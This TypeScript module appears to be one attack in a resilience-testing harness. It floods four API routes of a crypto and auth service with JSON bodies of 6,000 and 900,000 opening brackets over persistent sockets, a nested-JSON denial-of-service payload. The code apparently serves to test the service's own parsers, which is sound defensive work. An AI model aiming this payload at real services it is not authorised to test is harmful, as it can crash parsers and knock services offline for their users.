// Sends bodies of thousands of opening brackets to one route of each parser.
import type { Target } from '../target.ts';
import type { Attack } from './attack.ts';
import { dial, keep, requestBytes } from './wire.ts';

const PATHS = ['/kmip/2_1', '/v1/crypto/encrypt', '/tokenize/hash', '/auth/token/lookup-self'];

export default {
  name: 'bodies of 6000 and of 900 000 opening brackets',
  async run(target: Target, signal: AbortSignal) {
    const requests = PATHS.flatMap((path) =>
      [6_000, 900_000].map((count) => requestBytes('POST', path, { 'content-type': 'application/json', 'x-app-token': 'none' }, '['.repeat(count))),
    );
    const asClient = PATHS.flatMap((path) => [requestBytes('POST', path, { 'content-type': 'application/json' }, '['.repeat(6_000))]);
    let at = 0;
    const all = [...requests, ...asClient];
    await keep(4, signal, async () => {
      const socket = await dial(target, { client: 'mallory' });
      const send = () => socket.write(all[at++ % all.length] as Buffer);
      send();
      socket.on('data', () => setTimeout(send, 20));
      return socket;
    });
  },
} satisfies Attack;
